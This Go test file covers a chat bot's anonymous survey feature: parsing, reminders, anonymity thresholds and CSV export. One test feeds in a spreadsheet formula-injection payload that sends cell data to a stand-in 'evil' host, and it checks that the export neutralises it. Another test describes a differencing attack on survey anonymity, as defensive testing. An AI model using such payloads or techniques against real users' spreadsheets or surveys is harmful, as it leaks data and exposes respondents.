package bot_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/herald-chat/herald/bot"
	"github.com/herald-chat/herald/schedule"
)

var (
	team  = channel("CTEAM", "team")
	sales = channel("CSALES", "sales")
	eng   = channel("CENG", "eng")
)

func TestPulseDefinitionErrors(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, people("UANNA")...)
	tests := []struct {
		give string
		want string // catalog key
		args []any
	}{
		{give: `pulse new type=nps to=#team`, want: "pulse.err.question"},
		{give: `pulse new "How are you?" to=#team`, want: "pulse.err.type.missing"},
		{give: `pulse new "How are you?" type=stars to=#team`, want: "pulse.err.type", args: []any{"stars"}},
		{give: `pulse new "How are you?" type=nps`, want: "pulse.err.to"},
		{give: `pulse new "How are you?" type=nps to=team`, want: "pulse.err.target", args: []any{"team"}},
		{give: `pulse new "Pick" type=choice:A to=#team`, want: "pulse.err.choice.count", args: []any{1, 2, 10}},
		{give: `pulse new "Pick" type=choice:A|B|C|D|E|F|G|H|I|J|K to=#team`, want: "pulse.err.choice.count", args: []any{11, 2, 10}},
		{give: `pulse new "Pick" type=choice:A||B to=#team`, want: "pulse.err.choice.empty"},
		{give: `pulse new "Pick" type=choice:A|a to=#team`, want: "pulse.err.choice.twice", args: []any{"a"}},
		{give: `pulse new "Pick" type=nps:A|B to=#team`, want: "pulse.err.type.opts", args: []any{"nps:A|B"}},
		{give: `pulse new "Q" type=nps to=#team closes=soon`, want: "pulse.err.closes", args: []any{"soon"}},
		{give: `pulse new "Q" type=nps to=#team closes=10m`, want: "pulse.err.closes.range", args: []any{"10m"}},
		{give: `pulse new "Q" type=nps to=#team closes=40d`, want: "pulse.err.closes.range", args: []any{"40d"}},
		{give: `pulse new "Q" type=nps to=#team anonymous=maybe`, want: "pulse.err.anonymous", args: []any{"maybe"}},
		{give: `pulse new "Q" type=nps to=#team colour=red`, want: "pulse.err.key", args: []any{"colour"}},
		{give: `pulse new "Q" type=nps to=#team type=yesno`, want: "pulse.err.twice", args: []any{"type"}},
		{give: `pulse new "Q" type=nps to=#team every=`, want: "pulse.err.every", args: []any{""}},
		{give: `pulse new "` + strings.Repeat("x", 301) + `" type=nps to=#team`, want: "pulse.err.question.long", args: []any{301, 300}},
		{give: `pulse new "Q" type=nps to=#nowhere`, want: "pulse.err.target.unknown", args: []any{"#nowhere"}},
		{give: `pulse template stars to=#team`, want: "pulse.err.template.unknown", args: []any{"stars", "enps, canwant, adoption"}},
		{give: `pulse template enpss to=#team`, want: "err.unknown.near", args: []any{"pulse template enpss", "pulse template enps"}},
		{give: `pulse template enps type=nps to=#team`, want: "pulse.err.key", args: []any{"type"}},
		{give: `pulse results P9`, want: "pulse.err.notfound", args: []any{"P9"}},
		{give: `pulse results`, want: "pulse.err.id", args: []any{"pulse results"}},
		{give: `pulse frobnicate`, want: "err.unknown.sub", args: []any{"frobnicate", "pulse"}},
	}
	for _, tt := range tests {
		t.Run(tt.give, func(t *testing.T) {
			got := h.run(h.owner, tt.give, team, channel("CNOWHERE", "nowhere")).Text.String()
			mustContain(t, tt.give, got, h.t(tt.want, tt.args...))
		})
	}
	if got := len(h.out.Sent()); got != 0 {
		t.Errorf("bad definitions sent %d messages, want 0", got)
	}
}

func TestPulseNeedsAdmin(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, people("UANNA")...)
	got := h.run(user("UANNA"), "pulse template enps to=#team", team).Text.String()
	mustContain(t, "non-admin", got, h.t("err.admin"))
}

func TestPulseNewSendsOneDMPerPerson(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, people("UANNA", "UBEN", "UEVA")...)
	h.dir.Set(sales, people("UBEN", "UCARLA")...)
	reply := h.run(h.owner, `pulse new "Which training?" type=choice:CRM|Reporting|Mobile to=#team #sales @udan closes=2d`,
		team, sales, user("UDAN")).Text.String()
	mustContain(t, "reply", reply, h.t("pulse.started", "P1", "Which training?", 5, "Wed 2026-11-25 10:00 UTC"))
	sent := h.out.Sent()
	var to []string
	for _, m := range sent {
		to = append(to, m.To.ID)
	}
	slices.Sort(to)
	if want := []string{"UANNA", "UBEN", "UCARLA", "UDAN", "UEVA"}; !slices.Equal(to, want) {
		t.Fatalf("DMs went to %v, want %v", to, want)
	}
	m := sent[0]
	if got, want := len(m.Buttons), 3; got != want {
		t.Fatalf("got %d buttons, want %d", got, want)
	}
	if got, want := m.Buttons[1], (bot.Button{Label: "Reporting", Action: bot.ActionPulseAnswer, Value: "P1.1|1|2"}); got != want {
		t.Errorf("got button %+v, want %+v", got, want)
	}
	mustContain(t, "DM context", m.Context, h.t("pulse.dm.anon", 5))
}

func TestPulseRatingAndOnceOnly(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, crowd("UANNA", "UBEN")...)
	h.run(h.owner, `pulse new "How likely would you recommend us?" type=nps to=#team`, team)
	dm := h.sentTo(user("UANNA"))[0]
	want := &bot.Rating{Action: bot.ActionPulseAnswer, Value: "P1.1|1", Min: 0, Max: 10,
		MinLabel: h.t("pulse.nps.min"), MaxLabel: h.t("pulse.nps.max")}
	if *dm.Rating != *want {
		t.Fatalf("got rating %+v, want %+v", dm.Rating, want)
	}
	first := h.rate(user("UANNA"), "P1.1", 1, 9)
	if !first.Replace || !strings.Contains(first.Text.String(), h.t("pulse.thanks")) {
		t.Errorf("first click: got %+v, want a replacing %q", first, h.t("pulse.thanks"))
	}
	again := h.rate(user("UANNA"), "P1.1", 1, 3)
	mustContain(t, "second click", again.Text.String(), h.t("pulse.already"))
	tl := h.run(h.owner, "pulse results P1").Text.String()
	mustContain(t, "results", tl, h.t("pulse.res.rate", 1, 5, 20))
	mustContain(t, "results", tl, h.t("pulse.res.withheld", 1, 5))
	badValue := h.run(user("UBEN"), "answer P1 11").Text.String()
	mustContain(t, "bad value", badValue, h.t("answer.err.value.nps", "0–10"))
	notInvited := h.run(user("UZED"), "answer P1 5").Text.String()
	mustContain(t, "not invited", notInvited, h.t("pulse.err.notinvited", "P1"))
}

func TestPulseClickAfterClose(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, crowd("UANNA", "UBEN")...)
	h.run(h.owner, `pulse new "Ready?" type=yesno to=#team closes=1d`, team)
	h.click(user("UANNA"), bot.ActionPulseAnswer, "P1.1|1|yes")
	h.clock.Add(25 * time.Hour) // past close: the round closes on the next look
	late := h.click(user("UBEN"), bot.ActionPulseAnswer, "P1.1|1|no")
	if !late.Replace || !strings.Contains(late.Text.String(), h.t("pulse.closed")) {
		t.Errorf("late click: got %q (replace %v), want a replacing %q", late.Text.String(), late.Replace, h.t("pulse.closed"))
	}
	closed := h.run(h.owner, "pulse close P1").Text.String()
	mustContain(t, "close again", closed, h.t("pulse.err.closed.already", "P1.1"))
}

// canwant answers of six people: (can, want).
var canwant = []struct {
	who       string
	can, want int
}{
	{"UANNA", 5, 5}, {"UBEN", 4, 2}, {"UCARLA", 2, 5}, {"UDAN", 1, 1}, {"UEVA", 4, 4}, {"UFIN", 3, 4},
}

func TestCanWantWithheldThenMatrix(t *testing.T) {
	h := MustHarness(t)
	var ids []string
	for _, a := range canwant {
		ids = append(ids, a.who)
	}
	h.dir.Set(team, people(ids...)...)
	h.run(h.owner, "pulse template canwant to=#team", team)
	for i, a := range canwant[:4] {
		h.rate(user(a.who), "P1.1", 1, a.can)
		next := h.rate(user(a.who), "P1.1", 2, a.want)
		mustContain(t, "last answer", next.Text.String(), h.t("pulse.thanks.done"))
		res := text(h.run(h.owner, "pulse results P1"))
		mustContain(t, "below threshold", res, h.t("pulse.res.withheld", i+1, 5))
	}
	for _, a := range canwant[4:] {
		h.rate(user(a.who), "P1.1", 1, a.can)
		h.rate(user(a.who), "P1.1", 2, a.want)
	}
	open := text(h.run(h.owner, "pulse results P1"))
	mustContain(t, "open round", open, h.t("pulse.res.open.anon", "P1.1"))
	res := h.run(h.owner, "pulse close P1")
	got := text(res)
	mustContain(t, "rate", got, h.t("pulse.res.rate", 6, 6, 100))
	for _, want := range []string{
		h.t("pulse.res.q.aw") + ": 2 (33%)",   // anna, eva
		h.t("pulse.res.q.anw") + ": 1 (17%)",  // ben
		h.t("pulse.res.q.wna") + ": 2 (33%)",  // carla, fin
		h.t("pulse.res.q.none") + ": 1 (17%)", // dan
		h.t("pulse.res.need.wna"),
		h.t("pulse.res.avg", 19.0/6),
	} {
		mustContain(t, "results", got, want)
	}
	if res.Image == nil || string(res.Image.PNG) != "png" {
		t.Fatalf("got image %v, want the chart", res.Image)
	}
	charts := h.charts.Charts()
	dist := charts[len(charts)-1].Dist
	if got, want := []float64{dist[0].Value, dist[1].Value, dist[2].Value, dist[3].Value}, []float64{2, 1, 2, 1}; !slices.Equal(got, want) {
		t.Errorf("chart distribution: got %v, want %v", got, want)
	}
}

// TestPulseSegmentsThreshold is the differencing attack of issue 10: six
// members of #general and one more person answer; showing #general's average
// next to the round's would give away the one person's answer. Segments too
// small are merged into "others", and the smallest shown one with them while
// "others" is below the threshold.
func TestPulseSegmentsThreshold(t *testing.T) {
	h := MustHarness(t)
	general := channel("CGENERAL", "general")
	h.dir.Set(general, people("UG1", "UG2", "UG3", "UG4", "UG5", "UG6")...)
	h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#general @utarget`, general, user("UTARGET"))
	for i, id := range []string{"UG1", "UG2", "UG3", "UG4", "UG5", "UG6"} {
		h.rate(user(id), "P1.1", 1, 3+i%3)
	}
	h.rate(user("UTARGET"), "P1.1", 1, 1)
	got := text(h.run(h.owner, "pulse close P1"))
	mustContain(t, "round", got, h.t("pulse.res.n", 7))
	mustContain(t, "segments", got, h.t("pulse.res.segments")+": "+h.t("pulse.res.seg.merged", 5))
	if strings.Contains(got, "#general: ") {
		t.Errorf("results show #general apart from the one other person:\n%s", got)
	}

	// Three channels: #ops is too small, so it and the smaller of the other
	// two are shown together as "others".
	h = MustHarness(t)
	h.dir.Set(sales, people("US1", "US2", "US3", "US4", "US5", "US6")...)
	h.dir.Set(eng, people("UE1", "UE2", "UE3", "UE4", "UE5")...)
	ops := channel("COPS", "ops")
	h.dir.Set(ops, people("UO1", "UO2")...)
	h.run(h.owner, `pulse new "Recommend us?" type=nps to=#sales #eng #ops`, sales, eng, ops)
	for _, id := range []string{"US1", "US2", "US3", "US4", "US5", "US6"} {
		h.rate(user(id), "P1.1", 1, 10)
	}
	for _, id := range []string{"UE1", "UE2", "UE3", "UE4", "UE5", "UO1", "UO2"} {
		h.rate(user(id), "P1.1", 1, 0)
	}
	got = text(h.run(h.owner, "pulse close P1"))
	mustContain(t, "sales", got, "#sales: "+h.t("pulse.res.seg", "eNPS", "+100", 6))
	mustContain(t, "others", got, h.t("pulse.res.seg.others", "#eng, #ops")+": "+h.t("pulse.res.seg", "eNPS", "-100", 7))
	if strings.Contains(got, "#eng: ") || strings.Contains(got, "#ops: ") {
		t.Errorf("results show #eng or #ops apart:\n%s", got)
	}
}

func TestPulseExportCSV(t *testing.T) {
	h := MustHarness(t)
	var ids []string
	for _, a := range canwant {
		ids = append(ids, a.who)
	}
	h.dir.Set(team, people(ids...)...)
	h.run(h.owner, "pulse template canwant to=#team", team)
	for _, a := range canwant {
		h.rate(user(a.who), "P1.1", 1, a.can)
		if a.who != "UFIN" {
			h.rate(user(a.who), "P1.1", 2, a.want)
		}
	}
	mustContain(t, "open round", text(h.run(h.owner, "pulse export P1")), h.t("pulse.export.notyet", "P1.1", "Thu 2026-11-26 10:00 UTC"))
	// Fin's single answer is a partial tuple, one of fewer than 5: dropped at
	// close, and the first question is shown in the matrix only.
	h.run(h.owner, "pulse close P1")
	mustContain(t, "partial answers", text(h.run(h.owner, "pulse results P1")), h.t("pulse.res.part.matrix"))
	m := h.run(h.owner, "pulse export P1")
	if m.File == nil || m.File.Type != "text/csv" {
		t.Fatalf("got file %+v, want a CSV", m.File)
	}
	rows, err := csv.NewReader(bytes.NewReader(m.File.Content)).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v", err)
	}
	wantHead := []string{"round", "1. " + h.t("pulse.tpl.canwant.q1"), "2. " + h.t("pulse.tpl.canwant.q2")}
	if !slices.Equal(rows[0], wantHead) {
		t.Errorf("got header %q, want %q", rows[0], wantHead)
	}
	want := [][]string{{"1", "1", "1"}, {"1", "2", "5"}, {"1", "4", "2"}, {"1", "4", "4"}, {"1", "5", "5"}}
	got := rows[1:]
	slices.SortFunc(got, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("got rows %q, want %q", got, want)
	}
	for _, id := range ids {
		if bytes.Contains(m.File.Content, []byte(id)) {
			t.Errorf("CSV holds user id %s", id)
		}
	}
}

func TestPulseRemindOnlyNonResponders(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, crowd("UANNA", "UBEN", "UCARLA")...)
	h.run(h.owner, "pulse template canwant to=#team", team)
	h.rate(user("UANNA"), "P1.1", 1, 4)
	h.rate(user("UANNA"), "P1.1", 2, 4)
	h.rate(user("UBEN"), "P1.1", 1, 4) // midway: reminded of question 2
	h.out.Reset()
	got := h.run(h.owner, "pulse remind P1").Text.String()
	mustContain(t, "reply", got, h.t("pulse.reminded", 4, "P1.1")) // ben, carla and the two others
	if n := len(h.sentTo(user("UANNA"))); n != 0 {
		t.Errorf("anna finished but got %d reminders", n)
	}
	ben := h.sentTo(user("UBEN"))
	if len(ben) != 1 || ben[0].Rating == nil || ben[0].Rating.Value != "P1.1|2" {
		t.Errorf("ben: got %+v, want a reminder of question 2", ben)
	}
	carla := h.sentTo(user("UCARLA"))
	if len(carla) != 1 || carla[0].Rating.Value != "P1.1|1" {
		t.Errorf("carla: got %+v, want a reminder of question 1", carla)
	}
}

func TestPulseRemindsOnceAndClosesOnSchedule(t *testing.T) {
	tests := []struct {
		name string
		give int // replicas, each with its own scheduler
	}{
		{"one replica", 1},
		{"three replicas", 3},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := MustHarness(t)
			scheds := h.schedulers(tt.give)
			h.dir.Set(team, people("UANNA", "UBEN", "UCARLA", "UDAN", "UEVA")...)
			h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#team closes=3d`, team)
			for _, id := range []string{"UANNA", "UBEN", "UCARLA", "UDAN"} {
				h.rate(user(id), "P1.1", 1, 4)
			}
			h.out.Reset()
			h.clock.Add(47 * time.Hour) // 25 hours before close: no reminder yet
			h.tick(scheds)
			if n := len(h.out.Sent()); n != 0 {
				t.Fatalf("got %d messages 25h before close, want 0", n)
			}
			h.clock.Add(2 * time.Hour)
			h.tick(scheds)
			h.tick(scheds)
			if got := h.out.Sent(); len(got) != 1 || got[0].To.ID != "UEVA" {
				t.Fatalf("got reminders %+v, want one to UEVA", got)
			}
			h.rate(user("UEVA"), "P1.1", 1, 2)
			h.out.Reset()
			h.clock.Add(24 * time.Hour)
			h.tick(scheds)
			h.tick(scheds)
			sent := h.out.Sent()
			if len(sent) != 1 || sent[0].To.Key() != h.owner.Key() {
				t.Fatalf("got %+v, want the results card to the owner", sent)
			}
			mustContain(t, "results card", text(&sent[0]), h.t("pulse.res.avg", 3.6))
			mustContain(t, "results card", text(&sent[0]), h.t("pulse.res.closed"))
		})
	}
}

func TestPulseRoundThatCantBeReadHoldsUpNoOther(t *testing.T) {
	h := MustHarness(t)
	scheds := h.schedulers(3)
	h.dir.Set(team, people("UANNA", "UBEN")...)
	h.dir.Set(sales, people("UCARLA", "UDAN")...)
	// Named pulses: two people each are below the anonymity minimum.
	h.run(h.owner, `pulse new "Clear goal?" type=scale5 to=#team closes=3d anonymous=no`, team)
	h.run(h.owner, `pulse new "Clear plan?" type=scale5 to=#sales closes=3d anonymous=no`, sales)
	ctx := context.Background()
	keys, err := h.rdb.Keys(ctx, h.prefix+"*pulse:P2:r1").Result()
	if err != nil || len(keys) != 1 {
		t.Fatalf("round P2.1: got keys %v, %v; want one", keys, err)
	}
	if err := h.rdb.HSet(ctx, keys[0], "round", "{broken").Err(); err != nil {
		t.Fatalf("break round P2.1: %v", err)
	}
	h.out.Reset()
	h.clock.Add(49 * time.Hour) // past the reminders
	h.tick(scheds)
	var reminded []string
	for _, m := range h.out.Sent() {
		reminded = append(reminded, m.To.ID)
	}
	slices.Sort(reminded)
	if want := []string{"UANNA", "UBEN"}; !slices.Equal(reminded, want) {
		t.Errorf("got reminders to %v, want %v: P1's, though P2.1 can't be read", reminded, want)
	}
	h.out.Reset()
	h.clock.Add(24 * time.Hour) // past the close
	h.tick(scheds)
	if sent := h.out.Sent(); len(sent) != 1 || sent[0].To.Key() != h.owner.Key() {
		t.Errorf("got %+v, want P1's results card to the owner", sent)
	}
	if !strings.Contains(h.logs.String(), "pulse round left out of the schedule") {
		t.Errorf("log: got\n%s\nwant the unreadable round named", h.logs.String())
	}
}

func TestPulseTextAnswersAndSkip(t *testing.T) {
	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 3 })
	h.dir.Set(team, people("UANNA", "UBEN", "UCARLA", "UDAN")...)
	h.run(h.owner, "pulse template adoption to=#team", team, user("UANNA"))
	h.rate(user("UANNA"), "P1.1", 1, 4)
	q3 := h.click(user("UANNA"), bot.ActionPulseAnswer, "P1.1|2|yes")
	if len(q3.Buttons) != 2 || q3.Buttons[0].Action != bot.ActionPulseText || q3.Buttons[0].Value != "P1.1|3" {
		t.Fatalf("got buttons %+v, want a free-text button for P1.1|3", q3.Buttons)
	}
	form := h.click(user("UANNA"), bot.ActionPulseText, "P1.1|3")
	mustContain(t, "text button", form.Text.String(), "answer P1.1 3 ")
	wantForm := bot.Form{
		Title: h.t("pulse.form.title"), Label: h.t("pulse.tpl.adoption.q3"), Hint: h.t("pulse.dm.anon", 3),
		Submit: h.t("pulse.form.submit"), Action: bot.ActionPulseText, Value: "P1.1|3", Multiline: true, MaxLength: 2000,
	}
	if form.Form == nil || *form.Form != wantForm {
		t.Fatalf("text button: got form %+v, want %+v", form.Form, wantForm)
	}
	submit := func() *bot.Message {
		return h.bot.Handle(t.Context(), bot.Request{User: user("UANNA"),
			Action: &bot.Action{Name: form.Form.Action, Value: form.Form.Value, Input: " more time to learn\n"}})
	}
	done := submit()
	mustContain(t, "typed answer", done.Text.String(), h.t("pulse.thanks.done"))
	if !done.Replace || done.Form != nil {
		t.Errorf("typed answer: got replace=%v form=%v, want the clicked message replaced by the thanks", done.Replace, done.Form)
	}
	mustContain(t, "typed twice", submit().Text.String(), h.t("pulse.already"))
	h.rate(user("UBEN"), "P1.1", 1, 2)
	h.click(user("UBEN"), bot.ActionPulseAnswer, "P1.1|2|no")
	skipped := h.click(user("UBEN"), bot.ActionPulseAnswer, "P1.1|3|-")
	mustContain(t, "skip", skipped.Text.String(), h.t("pulse.thanks.done"))
	h.rate(user("UCARLA"), "P1.1", 1, 5)
	h.click(user("UCARLA"), bot.ActionPulseAnswer, "P1.1|2|yes")
	h.bot.Handle(t.Context(), bot.Request{User: user("UCARLA"),
		Action: &bot.Action{Name: bot.ActionPulseText, Value: "P1.1|3", Input: `=HYPERLINK("https://evil/?"&A1,"x")`}})
	// Open, the round shows no figures: the next answer would tell itself.
	mustContain(t, "open round", text(h.run(h.owner, "pulse results P1")), h.t("pulse.res.open.anon", "P1.1"))
	h.rate(user("UDAN"), "P1.1", 1, 3)
	h.click(user("UDAN"), bot.ActionPulseAnswer, "P1.1|2|yes")
	h.run(user("UDAN"), "answer P1 3 @SUM(A1:A9)")
	h.run(h.owner, "pulse close P1")
	rows, err := csv.NewReader(bytes.NewReader(h.run(h.owner, "pulse export P1").File.Content)).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v", err)
	}
	// Scores and texts in rows of their own; formulas neutralised.
	want := [][]string{
		{"1", "", "", "'=HYPERLINK(\"https://evil/?\"&A1,\"x\")"}, {"1", "", "", "'@SUM(A1:A9)"},
		{"1", "", "", "more time to learn"}, {"1", "2", "No", ""}, {"1", "3", "Yes", ""}, {"1", "4", "Yes", ""}, {"1", "5", "Yes", ""},
	}
	got := rows[1:]
	slices.SortFunc(got, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("got rows %q, want %q", got, want)
	}
	res := text(h.run(h.owner, "pulse results P1"))
	mustContain(t, "texts", res, "• more time to learn")
}

func TestPulseNotAnonymous(t *testing.T) {
	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 5 })
	h.dir.Set(team, people("UANNA", "UBEN")...)
	h.run(h.owner, `pulse new "Join the pilot?" type=yesno to=#team anonymous=no`, team)
	dm := h.sentTo(user("UANNA"))[0]
	mustContain(t, "DM", dm.Context, h.t("pulse.dm.named", "@uboss"))
	h.click(user("UANNA"), bot.ActionPulseAnswer, "P1.1|1|yes")
	res := text(h.run(h.owner, "pulse results P1"))
	mustContain(t, "results shown below the threshold", res, h.t("pulse.res.yesno", 100, 1, 0, 0))
	mustContain(t, "names next to answers, as told", res, h.t("pulse.res.named")+": • @uanna: "+h.t("pulse.yes"))
	h.run(h.owner, "pulse close P1")
	m := h.run(h.owner, "pulse export P1")
	mustContain(t, "export says names", m.Text.String(), h.t("pulse.export.done.named", 1, "P1.1"))
	rows, err := csv.NewReader(bytes.NewReader(m.File.Content)).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v", err)
	}
	if want := [][]string{{"round", "person", "1. Join the pilot?"}, {"1", "uanna", "Yes"}}; !slices.EqualFunc(rows, want, slices.Equal) {
		t.Errorf("got %q, want %q", rows, want)
	}
}

func TestPulseTrendOverRounds(t *testing.T) {
	h := MustHarness(t, func(c *bot.Config) { c.AnonymityMin = 3; c.Schedules = schedule.Parser{} })
	h.dir.Set(team, people("UANNA", "UBEN", "UCARLA")...)
	h.run(h.owner, `pulse template enps to=#team every="every monday at 9:00"`, team)
	h.rate(user("UANNA"), "P1.1", 1, 10)
	h.rate(user("UBEN"), "P1.1", 1, 0)
	h.rate(user("UCARLA"), "P1.1", 1, 8)
	h.clock.Add(7 * 24 * time.Hour)
	r, err := h.bot.OpenRound(t.Context(), "slack:T1", "P1", h.clock.Now())
	if err != nil || r.ID() != "P1.2" {
		t.Fatalf("open round: got %v, %v, want P1.2", r, err)
	}
	h.rate(user("UANNA"), "P1.2", 1, 10)
	h.rate(user("UBEN"), "P1.2", 1, 9)
	h.rate(user("UCARLA"), "P1.2", 1, 9)
	got := text(h.run(h.owner, "pulse close P1"))
	mustContain(t, "trend", got, h.t("pulse.res.trend", "eNPS")+": R1: +0 → R2: +100")
	old := text(h.run(h.owner, "pulse results P1.1"))
	mustContain(t, "round 1 closed", old, h.t("pulse.res.closed"))
	hl, err := h.bot.PulseHeadlines(t.Context(), "slack:T1", "2026-11", "en")
	if err != nil {
		t.Fatalf("headlines: %v", err)
	}
	if len(hl) != 2 || hl[1].Value != 100 || !hl[1].HasPrevious || hl[1].Previous != 0 || hl[1].Kind != bot.HeadENPS {
		t.Errorf("got headlines %+v, want R1 +0 and R2 +100 after +0", hl)
	}
}

func TestPulseConcurrentClicksCountOnce(t *testing.T) {
	h := MustHarness(t)
	h.dir.Set(team, people("UANNA", "UBEN")...)
	h.run(h.owner, `pulse new "Recommend us?" type=nps to=#team anonymous=no`, team)
	const clicks = 50
	replies := make(chan string, clicks)
	var wg sync.WaitGroup
	for i := range clicks {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Retries and double clicks of the same person, with different values.
			m := h.bot.Handle(t.Context(), bot.Request{User: user("UANNA"),
				Action: &bot.Action{Name: bot.ActionPulseAnswer, Value: "P1.1|1|" + strconv.Itoa(i%11)}})
			replies <- m.Text.String()
		}()
	}
	wg.Wait()
	close(replies)
	recorded := 0
	for r := range replies {
		if strings.Contains(r, h.t("pulse.thanks")) {
			recorded++
		}
	}
	if recorded != 1 {
		t.Errorf("got %d clicks recorded, want 1", recorded)
	}
	mustContain(t, "results", text(h.run(h.owner, "pulse results P1")), h.t("pulse.res.n", 1))
}

func TestRecurringPulseRunsOnItsSchedule(t *testing.T) {
	h := MustHarness(t, func(c *bot.Config) { c.Schedules = schedule.Parser{} })
	h.dir.Set(team, crowd("UANNA", "UBEN")...)
	ctx := t.Context()

	bad := text(h.run(h.owner, `pulse template enps to=#team every="every blue moon"`, team))
	mustContain(t, "bad schedule", bad, "every blue moon")
	h.run(h.owner, `pulse template enps to=#team every="every monday at 9:00 Europe/Berlin"`, team)

	triggers, err := h.bot.Triggers(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var trig *bot.Trigger
	for i := range triggers {
		if triggers[i].Kind == "pulse" {
			trig = &triggers[i]
		}
	}
	if trig == nil || trig.ID != "slack:T1|P1" {
		t.Fatalf("got triggers %+v, want one for pulse P1", triggers)
	}
	due := trig.Schedule.Next(start) // the Monday after the first round: 2026-11-30 09:00 Berlin
	if want := time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC); !due.Equal(want) {
		t.Errorf("next round due %v, want %v", due, want)
	}
	h.clock.Set(due)
	h.out.Reset()
	job := bot.Job{Kind: "pulse", ID: trig.ID, Due: due}
	if err := h.bot.Fire(ctx, job); err != nil {
		t.Fatalf("fire: %v", err)
	}
	if err := h.bot.Fire(ctx, job); err != nil { // a second replica, or a retry
		t.Fatalf("fire again: %v", err)
	}
	dms := h.sentTo(user("UANNA"))
	if len(dms) != 1 || dms[0].Rating == nil || !strings.HasPrefix(dms[0].Rating.Value, "P1.2|") {
		t.Fatalf("anna got %+v, want one direct message of round P1.2", dms)
	}
	if _, err := h.bot.OpenRound(ctx, "slack:T1", "P1", due); err != nil {
		t.Fatalf("round 3 by hand: %v", err)
	}

	stopped := text(h.run(h.owner, "pulse stop P1"))
	mustContain(t, "stop", stopped, h.t("pulse.stopped", "P1"))
	mustContain(t, "stop closes the open round", stopped, h.t("pulse.closed.now", "P1.3"))
	mustContain(t, "stop twice", text(h.run(h.owner, "pulse stop P1")), h.t("pulse.err.stop.already", "P1"))
	triggers, err = h.bot.Triggers(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, tr := range triggers {
		if tr.Kind == "pulse" {
			t.Errorf("stopped pulse still has a trigger: %+v", tr)
		}
	}
	h.out.Reset()
	next := bot.Job{Kind: "pulse", ID: "slack:T1|P1", Due: due.AddDate(0, 0, 7)}
	if err := h.bot.Fire(ctx, next); err != nil || len(h.out.Sent()) != 0 {
		t.Errorf("fire after stop: got %v and %d messages, want nothing", err, len(h.out.Sent()))
	}
}

// TestAnswersSeeCloseElsewhere: answers name their round, which the core
// keeps in memory; a round closed by another replica, or whose time is up,
// still takes no answer.
func TestAnswersSeeCloseElsewhere(t *testing.T) {
	var cfg bot.Config
	h := MustHarness(t, func(c *bot.Config) { cfg = *c })
	replica, err := bot.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	h.dir.Set(team, crowd("UANNA", "UBEN")...)
	h.run(h.owner, `pulse new "Join the pilot?" type=yesno to=#team`, team)
	h.run(h.owner, `pulse new "Enough time to learn?" type=yesno to=#team closes=1d`, team)
	for _, round := range []string{"P1.1", "P2.1"} {
		mustContain(t, "first answer to "+round, h.click(user("UANNA"), bot.ActionPulseAnswer, round+"|1|yes").Text.String(), h.t("pulse.thanks"))
	}
	replica.Handle(t.Context(), bot.Request{User: h.owner, Text: "pulse close P1"})
	late := h.click(user("UBEN"), bot.ActionPulseAnswer, "P1.1|1|no")
	mustContain(t, "answer after a close elsewhere", late.Text.String(), h.t("pulse.closed"))
	h.out.Reset()
	h.clock.Add(25 * time.Hour)
	late = h.click(user("UBEN"), bot.ActionPulseAnswer, "P2.1|1|no")
	mustContain(t, "answer after the close time", late.Text.String(), h.t("pulse.closed"))
	if !late.Replace {
		t.Errorf("answer after the close time: the clicked message is kept, want it replaced")
	}
	if sent := h.sentTo(h.owner); len(sent) != 1 {
		t.Errorf("got %d messages to the owner, want the results card of P2.1", len(sent))
	}
}
